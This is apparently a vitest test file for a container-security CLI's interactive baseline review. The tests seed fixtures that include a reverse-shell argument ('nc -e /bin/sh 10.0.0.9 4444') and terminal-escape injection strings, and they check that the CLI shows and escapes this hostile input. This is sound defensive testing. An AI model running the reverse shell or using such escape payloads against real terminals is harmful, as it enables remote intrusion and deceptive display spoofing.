import { spawn } from "node:child_process";
import path from "node:path";
import { describe, expect, inject, it } from "vitest";
import { parse as parseYaml } from "yaml";
import type { ChangeResult } from "./changes.ts";
import { entry, freshPrefix, id, openStore, plain, repoRoot, seed } from "./test-support.ts";

const PROMPT = "[q]uit > ";
const WHY = "why? (optional, Enter to skip) ";

/**
 * `outlier baseline review` on a real pseudo-terminal: util-linux `script` gives the
 * CLI a pty; keystrokes go in through script's stdin, the screen comes out on its stdout.
 */
function onTerminal(command: string) {
  const child = spawn("script", ["-qfec", command, "/dev/null"], { cwd: repoRoot, stdio: ["pipe", "pipe", "pipe"] });
  let screen = "";
  child.stdout.on("data", (chunk: Buffer) => (screen += chunk.toString("utf8")));
  const exited = new Promise<number | null>((resolve) => child.on("exit", resolve));
  return {
    screen: () => plain(screen),
    /** What reached the terminal, colour codes included. */
    raw: () => screen,
    /** Waits for the n-th prompt, then presses `key`. */
    async press(key: string, nthPrompt: number, prompt = PROMPT) {
      await expect.poll(() => plain(screen).split(prompt).length - 1, { timeout: 15_000 }).toBe(nthPrompt);
      child.stdin.write(key);
    },
    exited,
  };
}

describe("outlier baseline review on a terminal", () => {
  it("shows one pending entry at a time with its evidence and applies the keys pressed", async () => {
    const redisUrl = inject("redisUrl");
    const prefix = freshPrefix();
    await seed(redisUrl, prefix, [
      {
        id: id("checkout"),
        locked: true,
        entries: [
          entry("/bin/sh"),
          entry("/usr/bin/curl", "pending", { pendingReason: "after-lock", parents: ["/usr/bin/python3"] }),
          entry("/usr/bin/nc", "pending", { pendingReason: "after-lock", sampleArgs: ["nc -e /bin/sh 10.0.0.9 4444"] }),
          entry("/usr/bin/wget", "pending", { pendingReason: "single-replica" }),
        ],
      },
    ]);
    const main = path.join(repoRoot, "packages/cli/src/main.ts");
    const term = onTerminal(`${process.execPath} ${main} baseline review shop/checkout --as ana --reason triage --redis ${redisUrl} --prefix ${prefix}`);
    await term.press("a", 1); // approve /usr/bin/curl
    await term.press("x", 2); // not a key: ignored
    await term.press("d", 2); // deny /usr/bin/nc
    await term.press("q", 3); // quit before /usr/bin/wget
    expect(await term.exited).toBe(0);

    const screen = term.screen();
    expect(screen).toContain("[1/3] shop/Deployment/checkout container app");
    expect(screen).toContain("/usr/bin/curl  pending (after-lock) — seen after the baseline was locked (unexpected)");
    expect(screen).toContain("parents: /usr/bin/python3");
    expect(screen).toContain("args:    nc -e /bin/sh 10.0.0.9 4444");
    expect(screen).toContain("[3/3] shop/Deployment/checkout container app\r\n  /usr/bin/wget  pending (single-replica)");
    expect(screen).toContain("approved 1, denied 1, skipped 0");

    const store = await openStore(redisUrl, prefix);
    const stored = await store.load(id("checkout"));
    expect(Object.fromEntries([...stored!.entries.values()].map((e) => [e.binary, e.status]))).toEqual({
      "/bin/sh": "learned",
      "/usr/bin/curl": "approved",
      "/usr/bin/nc": "denied",
      "/usr/bin/wget": "pending",
    });
    expect((await store.history(id("checkout"))).map((r) => [r.actor, r.action, r.binary, r.reason])).toEqual([
      ["ana", "approve", "/usr/bin/curl", "triage"],
      ["ana", "deny", "/usr/bin/nc", "triage"],
    ]);
    await store.close();
  });

  it("shows a hostile entry's binary, arguments, parents, users and pods escaped: nothing retitles, clears or hides", async () => {
    const redisUrl = inject("redisUrl");
    const prefix = freshPrefix();
    const binary = "/tmp/x\u001b]0;pwned\u0007";
    await seed(redisUrl, prefix, [
      {
        id: id("checkout"),
        locked: true,
        entries: [
          entry(binary, "pending", {
            pendingReason: "after-lock",
            sampleArgs: ["x \u001b[2J\u001b[8mhidden\rover\u202etxt.sh"],
            parents: ["/bin/\u001b[8msh"],
            users: ["eve\u0000"],
            replicas: ["p\nforged"],
          }),
        ],
      },
    ]);
    const main = path.join(repoRoot, "packages/cli/src/main.ts");
    const term = onTerminal(`${process.execPath} ${main} baseline review shop/checkout --as ana --redis ${redisUrl} --prefix ${prefix}`);
    await term.press("s", 1);
    expect(await term.exited).toBe(0);
    const screen = term.screen();
    expect(screen).toContain("/tmp/x\\x1b]0;pwned\\x07  pending (after-lock)");
    expect(screen).toContain("args:    x \\x1b[2J\\x1b[8mhidden\\rover\\u{202e}txt.sh");
    expect(screen).toContain("parents: /bin/\\x1b[8msh");
    expect(screen).toContain("users:   eve\\x00");
    expect(screen).toContain("replica(s): p\\nforged");
    // Our own colours (bold, dim, yellow) are the only escape sequences left.
    // eslint-disable-next-line no-control-regex
    expect(term.raw()).not.toMatch(/\u001b\]|\u001b\[2J|\u001b\[8m|\u202e|\u0000/);
  });

  it("with --output json|yaml keeps the terminal UI and prints the decisions made at the end", async () => {
    const redisUrl = inject("redisUrl");
    const main = path.join(repoRoot, "packages/cli/src/main.ts");
    const summary = "approved 1, denied 1, skipped 1\r\n";
    for (const format of ["json", "yaml"]) {
      const prefix = freshPrefix();
      const pending = (binary: string) => entry(binary, "pending", { pendingReason: "after-lock" });
      await seed(redisUrl, prefix, [{ id: id("checkout"), locked: true, entries: [entry("/bin/sh"), pending("/usr/bin/curl"), pending("/usr/bin/nc"), pending("/usr/bin/wget")] }]);
      const term = onTerminal(`${process.execPath} ${main} baseline review shop/checkout --as ana -o ${format} --redis ${redisUrl} --prefix ${prefix}`);
      await term.press("d", 1); // deny /usr/bin/curl
      await term.press("exfiltration tool\r", 1, WHY); // no --reason: asked why
      await term.press("s", 2); // skip /usr/bin/nc: not a decision, not printed
      await term.press("a", 3); // approve /usr/bin/wget
      await term.press("\r", 2, WHY); // why is optional
      expect(await term.exited).toBe(0);
      const screen = term.screen();
      expect(screen).toContain("[2/3] shop/Deployment/checkout container app\r\n  /usr/bin/nc  pending (after-lock)");
      expect(screen).toContain(summary);
      const printed = screen.slice(screen.indexOf(summary) + summary.length).replaceAll("\r\n", "\n");
      const decisions = (format === "json" ? JSON.parse(printed) : parseYaml(printed)) as ChangeResult[];
      const checkout = { workload: "shop/Deployment/checkout", container: "app", actor: "ana", before: "pending" };
      expect(decisions).toEqual([
        { ...checkout, action: "deny", binary: "/usr/bin/curl", after: "denied", reason: "exfiltration tool" },
        { ...checkout, action: "approve", binary: "/usr/bin/wget", after: "approved" },
      ]);
      const store = await openStore(redisUrl, prefix);
      expect((await store.history(id("checkout"))).map((r) => [r.action, r.binary, r.reason])).toEqual([
        ["deny", "/usr/bin/curl", "exfiltration tool"],
        ["approve", "/usr/bin/wget", undefined],
      ]);
      await store.close();
    }
  });
});
